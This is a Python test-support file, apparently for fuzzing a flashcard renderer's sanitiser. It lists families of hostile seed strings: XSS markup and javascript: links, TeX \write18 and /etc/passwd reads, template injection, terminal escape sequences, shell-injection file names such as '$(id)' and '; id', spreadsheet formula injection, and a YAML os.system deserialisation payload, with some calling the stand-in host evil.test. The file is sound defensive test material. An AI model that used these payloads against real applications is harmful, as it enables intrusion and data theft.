"""The seeds of hostile texts, by what they try. A script that runs sets ``top.ran``."""

from __future__ import annotations

from support.corpus.growing import GROWING

RUN = "top.ran=1"
LEAK = "http://evil.test/leak"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}"/>',
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi//xlink:href='javascript:{RUN}'>x",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src={LEAK}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action={LEAK}><input type=submit autofocus></form>",
    f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    f"<base href={LEAK}/>",
    f"<link rel=stylesheet href={LEAK}>",
    f"<style>@import '{LEAK}'; *{{background:url({LEAK})}}</style>",
    f"<p style='background:url({LEAK})'>x</p>",
    f"<div style=position:fixed;inset:0 onmouseover={RUN}>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"</template><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"--><img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"</textarea></title></style><img src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    f"<\x00img src=x onerror={RUN}>",
    f"`${{{RUN}}}`",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    "<a id=qa name=MathJax>x</a>",
    "</div></div></body></html>",
    "<anki-mathjax>x</anki-mathjax>",
    "a<b & c>d <EU law> &nbsp;&bogus; &#0; &#xD800; &#1114112;",
)
LINKS = tuple(
    f"[a]({address})"
    for address in (
        *(
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f"&#106;avascript:{RUN}",
            f"java\tscript:{RUN}",
        ),
        *(
            f"javascript&colon;{RUN}",
            f"\x01javascript:{RUN}",
            f"data:text/html,<script>{RUN}</script>",
        ),
        *(
            "vbscript:x",
            "file:///etc/passwd",
            "//evil.test/x",
            "\\\\evil.test",
            "intent:#Intent;end",
        ),
        *("ms-msdt:/id", "anki:x", "pycmd:ans", "mailto:a@b.c?attach=/etc/passwd", "https://"),
        *("https://a@evil.test", "https://evil.test/?q='\"><script>", "#qa", "../../etc/passwd"),
        *("<https://x.test/ a>", "https://x.test 'a' onclick=top.ran=1", 'https://x.test "\'><b>"'),
    )
) + tuple(
    f"![a]({address})"
    for address in (
        *(LEAK, f"javascript:{RUN}", "file:///etc/passwd", "../../../etc/passwd", "/dev/zero"),
        *(f'x" onerror="{RUN}', f"x' onerror='{RUN}", "data:image/svg+xml,<svg/onload=top.ran=1>"),
        *(
            "con.png",
            "a.png\x00.svg",
            "..\\..\\a.png",
            "a.png?x#y",
            "%2e%2e%2fa.png",
            "\u202egnp.a",
        ),
    )
)
TEX = tuple(
    f"${body}$"
    for body in (
        *(rf"\href{{javascript:{RUN}}}{{c}}", rf'\mmlToken{{mi}}[href="javascript:{RUN}"]{{c}}'),
        *(
            r"\require{html}\style{x}{c}",
            rf"\style{{background:url({LEAK})}}{{c}}",
            r"\cssId{qa}{c}",
        ),
        *(
            r"\class{evil}{c}",
            r"\def\a{\a\a}\a",
            r"\newcommand{\x}[1]{#1#1}\x{\x{y}}",
            r"\input{x}",
        ),
        *(r"\include{/etc/passwd}", r"\write18{id}", r"\immediate\write18{id}", r"\catcode`\%=12"),
        *(
            r"\unicode{x}",
            r"\text{<img src=x onerror=top.ran=1>}",
            r"\text{$\href{x}{y}$}",
            r"\bbox[x]{y}",
        ),
        *(
            r"\frac{1}{",
            r"}",
            r"{" * 500,
            r"\sqrt{" * 300,
            r"^" * 500,
            r"\left(" * 300,
            r"x_" * 300,
        ),
        *(
            r"\begin{array}{" + "c" * 400 + "}x",
            r"\begin{x}",
            r"\color{url(x)}{y}",
            r"\rule{9e9em}{9e9em}",
        ),
        *(
            r"\kern999999999em x",
            r"\hspace{-9999em}x",
            r"\large" * 200,
            r"</script><script>top.ran=1",
        ),
    )
)
TEMPLATES = (
    *("{{Front}}", "{{FrontSide}}", "{{#Tags}}x{{/Tags}}", "{{^x}}y{{/x}}", "{{type:Front}}"),
    *("{{cloze:Text}}", "{{tts en_US:Front}}", "{{tts-voices:}}", "{{hint:Back}}", "{{c1::}}"),
    *(
        "{{c1::a}}",
        "{{c1::{{c2::a}}}}",
        "{{c0::a}}",
        "{{c1,2::a}}",
        "{{c99999::a}}",
        "}}{{",
        "{{=<% %>=}}",
    ),
    *("[[type:Front]]", "[[cloze::1]]", "[sound:x.mp3]", f"[sound:{LEAK}]", "[anki:play:q:0]"),
    *("[anki:tts lang=en_US]x[/anki:tts]", "[latex]\\input{/etc/passwd}[/latex]", "[$]x[/$]"),
    *(
        "[$$]\\write18{id}[/$$]",
        "\\(\\href{javascript:top.ran=1}{x}\\)",
        "\\[x\\]",
        "<anki-mathjax>x",
    ),
    *(
        "{{ 7*7 }}",
        "{% include 'x' %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__}",
        "%(x)s%n",
    ),
)
PAPER = (
    *("<img src='/etc/passwd'/>", f"<img src='{LEAK}'/>", "<para>x</para>", "<font face='x'>y"),
    *("<a href='javascript:x'>y</a>", "<onDraw name='x'/>", "<seq id='x'/>", "<unichar code='0'/>"),
    *(
        "<bullet>x</bullet>",
        "<i><b>x</i></b>",
        "<pdf:nextpage/>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    ),
    *("%PDF-1.7", "endobj endstream", ") Tj (x", "\\) \\( \\\\", "<</JS (app.alert(1))>>"),
)
TERMINAL = (
    *("\x1b[31mred", "\x1b]0;owned\x07", "\x1b]52;c;cm0=\x07", "\x1b]8;;http://x\x07y", "\x9b31m"),
    *("\x1bPq\x1b\\", "\x1b[2J\x1b[H", "\x07\x08\x08\x7f", "a\rb", "::error::x", "##[add-mask]x"),
    *("\n::set-output name=x::y", "\n::stop-commands::x", "a\x0b\x0cb", "\x00"),
)
SIGNS = (
    *("\u202eabc\u202c", "\u2066x\u2069", "\u200b", "\u200d\u200c", "\ufeffx", "\u2028x\u2029"),
    *("\ufffe\uffff", "\U0010ffff", "\ue000", "\U000e0041\U000e007f", "e" + "\u0301" * 200),
    *("\u0344\u0958\u2126\u212b", "\u1100" * 50, "\u0e33" * 50, "👨‍👩‍👧‍👦" * 30, "🇰🇷🇰", "\ufdfa"),
    *("مرحبا <b>שלום</b> 123", "नमस्ते" * 20, "\U0001f468\u200d" * 100, "ﷺ" * 100, "İıſK", "ßẞŉ"),
    *("\xad" * 200, "\u2060" * 200, "\u3164", "\u115f\u1160", "a\u034fb", "\u180e", "\U0001d173"),
)
FILES = (
    *("../../etc/passwd", "/etc/passwd", "C:\\Windows\\x", "\\\\server\\share", "~/x", "file:///x"),
    *(
        "con",
        "nul.txt",
        "a/b/c",
        "a\\b",
        ".",
        "..",
        "...",
        "-rf",
        "--help",
        "a" * 300,
        "x\x00y",
        "*?[]",
    ),
    *(
        "$(id)",
        "`id`",
        "$HOME ${HOME} %PATH%",
        "; id",
        "| id",
        "&& id",
        "x' or '1'='1",
        "'; drop table x",
    ),
    *(
        '=cmd|"/c calc"!A1',
        "+1+1",
        "-1+1",
        "@SUM(1)",
        '"a","b"',
        "a;b;c",
        "\t=x",
        '=HYPERLINK("x")',
    ),
)
YAML = (
    *(
        "!!python/object/apply:os.system ['id']",
        "&a *a",
        "*a",
        "<<: *a",
        "%TAG ! x",
        "--- !x",
        "? x",
    ),
    *(
        "- - - -",
        "{a: b}",
        "[a, [b]]",
        "| x",
        "> x",
        "# x",
        "a: b: c",
        "'",
        '"',
        "\\x",
        "~",
        "null",
        "no",
    ),
    *(
        "0x1F",
        "0o17",
        "1_000",
        "1:30:00",
        "2023-02-30",
        ".inf",
        ".nan",
        "1e999",
        "9" * 5000,
        "-" * 3000,
    ),
)
FAMILIES = {
    "markup": MARKUP,
    "links": LINKS,
    "tex": TEX,
    "templates": TEMPLATES,
    "paper": PAPER,
    "terminal": TERMINAL,
    "signs": SIGNS,
    "files": FILES,
    "yaml": YAML,
    "growing": GROWING,
}
